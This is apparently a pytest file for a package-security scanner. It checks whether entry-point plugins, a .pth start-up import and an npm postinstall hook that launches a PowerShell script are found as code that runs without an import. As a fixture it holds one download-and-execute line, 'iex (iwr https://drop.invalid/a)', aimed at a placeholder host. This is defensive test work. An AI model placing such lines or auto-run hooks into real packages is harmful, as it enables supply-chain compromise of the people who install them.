"""Files that run without an import: what other programs load, and scripts that code starts beside itself."""

from __future__ import annotations

from collections.abc import Callable, Mapping

import pytest

from adapters.sigil.local.analysis import facts_of
from adapters.sigil.local.material import Ecosystem, Package
from adapters.sigil.local.phases.scanned import Scanned
from tests.adapters.sigil.local.phases.conftest import Outcome, Pack


@pytest.mark.parametrize(
    ("group", "loads"), [("pytest11", True), ("flake8.extension", True), ("console_scripts", False)]
)
def test_entry_points_that_other_programs_load(group: str, loads: bool, pack: Pack) -> None:
    """A module that a program loads by its entry point runs without being imported; a command is somebody's call."""
    files = {
        "sample/__init__.py": "",
        "sample/plugin.py": "import os",
        "sample-1.0.dist-info/entry_points.txt": f"[{group}]\nname = sample.plugin:Plugin\n",
    }
    package = pack(files, Ecosystem.PYPI, "sample-1.0-py3-none-any.whl")
    assert ("sample/plugin.py" in Scanned(package, facts_of(package.files), {}).loaded) is loads


def test_a_start_up_line_leads_to_a_hidden_module(pack: Pack) -> None:
    """A .pth file that asks for a module by a call runs it at each start of Python."""
    files = {
        "sample.pth": "import os; __import__('sample._boot')",
        "sample/__init__.py": "",
        "sample/_boot.py": "import os",
    }
    package = pack(files, Ecosystem.PYPI, "sample-1.0-py3-none-any.whl")
    assert "sample/_boot.py" in Scanned(package, facts_of(package.files), {}).installed


@pytest.mark.parametrize(
    ("line", "dangerous"),
    [("iex (iwr https://drop.invalid/a)", True), ("Write-Output 'a runtime is missing'", False)],
)
def test_a_script_beside_the_hook(
    line: str, dangerous: bool, pack: Pack, outcome: Callable[[Package], Outcome]
) -> None:
    """A script of another language that a hook starts from its own folder is read like the hook."""
    code = (
        "require('child_process').execFile('powershell.exe', ['-File', require('path').resolve(__dirname, 'a.ps1')]);"
    )
    files: dict[str, str | Mapping[str, object]] = {
        "package.json": {"name": "sample", "scripts": {"postinstall": "node tools/a.js"}},
        "tools/a.js": code,
        "tools/a.ps1": f"$d = 'x'\n{line}\n",
    }
    assert outcome(pack(files)).dangerous is dangerous
